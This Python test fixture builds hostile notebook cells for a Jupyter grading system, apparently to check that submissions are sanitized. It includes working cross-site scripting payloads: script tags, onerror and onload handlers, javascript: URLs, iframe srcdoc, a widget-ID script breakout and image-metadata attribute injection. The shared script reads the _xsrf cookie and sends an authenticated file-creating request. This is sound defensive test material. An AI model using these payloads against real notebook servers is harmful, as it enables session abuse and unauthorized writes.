"""A learner's hostile notebook content: one payload per way HTML can run script (issue 45).

Each payload, if it runs, records its kind in ``window.top.__pwned`` (a list), sets ``document.title`` to
``PWNED-<kind>``, asks the Jupyter server to create ``pwned-<kind>.txt`` through the contents API with the
``_xsrf`` cookie (as the red team's payload opened a terminal), and calls ``alert``. The script has no space,
double quote, ``<``, ``>`` or ``&``, so it fits every context: an element, a quoted or unquoted attribute, a URL.

``MARKDOWN`` are markdown cells (as the learner wrote them), ``RAW`` a raw HTML cell, ``OUTPUTS`` code cells
whose outputs are hostile once run (nbgrader clears a submission's outputs and runs it: only what the learner's
code displays reaches formgrader), and ``rendered_outputs()`` those outputs as already run, for unit tests.
"""

from __future__ import annotations

import json

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

#: a tiny valid PNG (1x1), for payloads that hide in an image's metadata
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


def js(kind: str) -> str:
    return ("(function(k){try{window.top.__pwned=(window.top.__pwned||[]).concat([k])}catch(e){}"
            "try{window.top.document.title='PWNED-'+k}catch(e){}"
            "try{m=document.cookie.match(/_xsrf=([^;]+)/);fetch('/api/contents/pwned-'+k+'.txt',{method:'PUT',"
            "credentials:'include',headers:{'Content-Type':'application/json','X-XSRFToken':m?m[1]:''},"
            "body:JSON.stringify({type:'file',format:'text',content:k})})}catch(e){}"
            f"try{{alert(k)}}catch(e){{}}}})('{kind}')")


MARKDOWN = {
    "md_script": f"Answer.\n\n<script>{js('md_script')}</script>",
    "md_onerror": f'<img src="nonexistent.png" onerror="{js("md_onerror")}">',
    "md_javascript_url": (f'<a class="pwn-link" href="javascript:{js("md_javascript_url")}">pwn-link html</a>\n\n'
                          f"[pwn-link markdown](javascript:{js('md_javascript_url')})"),
    "md_iframe_srcdoc": f'<iframe srcdoc="<script>{js("md_iframe_srcdoc")}</script>"></iframe>',
    "md_svg": (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("md_svg")}">'
               f"<script>{js('md_svg_script')}</script></svg>"),
    "md_meta_refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{js("md_meta_refresh")}">'
                       '<meta http-equiv="refresh" content="1;url=/api/contents?pwned-meta-refresh">',
    "md_base": '<base href="http://127.0.0.1:9/pwned-base/">',
    "md_object": f'<object data="javascript:{js("md_object")}"></object><embed src="javascript:{js("md_embed")}">',
    "md_form": f'<form action="javascript:{js("md_form")}"><button class="pwn-button">pwn-button</button></form>',
    "md_score_id": '<span id="square-check" class="score tabbable">a stand-in for the score field</span>',
}

RAW = f"<script>{js('raw_html')}</script><img src=x onerror=\"{js('raw_onerror')}\">"


def _display(bundle: dict, metadata: dict | None = None) -> str:
    return ("from IPython.display import display\n"
            f"display({json.dumps(bundle)}, metadata={json.dumps(metadata or {})}, raw=True)\n")


#: (kind, the bundle a code cell displays, its metadata)
DISPLAYS = [
    ("out_html", {"text/html": f"<b>html</b><script>{js('out_html')}</script>"
                               f"<img src=x onerror=\"{js('out_html_onerror')}\">"}, None),
    ("out_javascript", {"application/javascript": js("out_javascript"), "text/plain": "js"}, None),
    ("out_markdown", {"text/markdown": f"<img src=x onerror=\"{js('out_markdown')}\"> "
                                       f"[pwn-link output](javascript:{js('out_markdown_link')})"}, None),
    ("out_svg", {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("out_svg")}">'
                                  f"<script>{js('out_svg_script')}</script></svg>"}, None),
    ("out_widget", {"application/vnd.jupyter.widget-view+json": {
        "model_id": f"</script><script>{js('out_widget')}</script>", "version_major": 2, "version_minor": 0},
        "text/plain": "widget"}, None),
    ("out_isolated", {"text/html": f"<script>{js('out_isolated')}</script>"}, {"text/html": {"isolated": True}}),
    ("out_image_meta", {"image/png": PNG}, {"image/png": {"width": f"1 onload={js('out_image_meta')}"}}),
    ("out_image_data", {"image/png": f"x\" onerror=\"{js('out_image_data')}"}, None),
]

OUTPUTS = {kind: _display(bundle, meta) for kind, bundle, meta in DISPLAYS}


def cells() -> list:
    """The hostile cells a learner adds to their notebook (code cells run when graded)."""
    raw = new_raw_cell(RAW, metadata={"raw_mimetype": "text/html"})
    return ([new_markdown_cell(source) for source in MARKDOWN.values()] + [raw]
            + [new_code_cell(source) for source in OUTPUTS.values()])


def rendered_outputs() -> list:
    """The same displays as a kernel would leave them in the autograded notebook."""
    out = []
    for kind, bundle, meta in DISPLAYS:
        cell = new_code_cell(f"# {kind}", execution_count=1)
        cell.outputs = [new_output("display_data", data=bundle, metadata=meta or {})]
        out.append(cell)
    return out


KINDS = sorted({*MARKDOWN, "raw_html", *OUTPUTS})
